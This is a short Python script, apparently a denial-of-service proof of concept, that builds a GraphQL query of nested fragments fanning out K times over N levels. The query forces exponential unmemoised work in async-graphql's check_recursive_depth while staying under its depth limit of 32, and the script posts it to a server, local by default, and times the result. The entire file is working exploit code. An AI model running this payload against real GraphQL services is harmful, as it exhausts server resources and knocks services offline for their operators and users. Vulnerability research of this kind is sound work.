# Fan-out variant of frag_double: K spreads per fragment, N levels -> K^N unmemoised visits
# in async-graphql's check_recursive_depth (recursion depth N stays under its limit of 32).
# usage: python3 frag_fan.py K N [url]
import json, sys, time, urllib.request
k, n = int(sys.argv[1]), int(sys.argv[2]); url = sys.argv[3] if len(sys.argv) > 3 else "http://127.0.0.1:18090/graphql"
doc = "{ ...F%d } fragment F0 on QueryRoot { __typename } " % n
for i in range(1, n + 1):
    doc += "fragment F%d on QueryRoot { %s} " % (i, ("...F%d " % (i - 1)) * k)
body = json.dumps({"query": doc}).encode(); t = time.time()
try:
    with urllib.request.urlopen(urllib.request.Request(url, data=body, headers={"content-type": "application/json"}), timeout=600) as r: out = r.read()[:100]
except Exception as e: out = str(e)
print(f"K={k} N={n} {len(body)} bytes {time.time()-t:.2f}s", out)
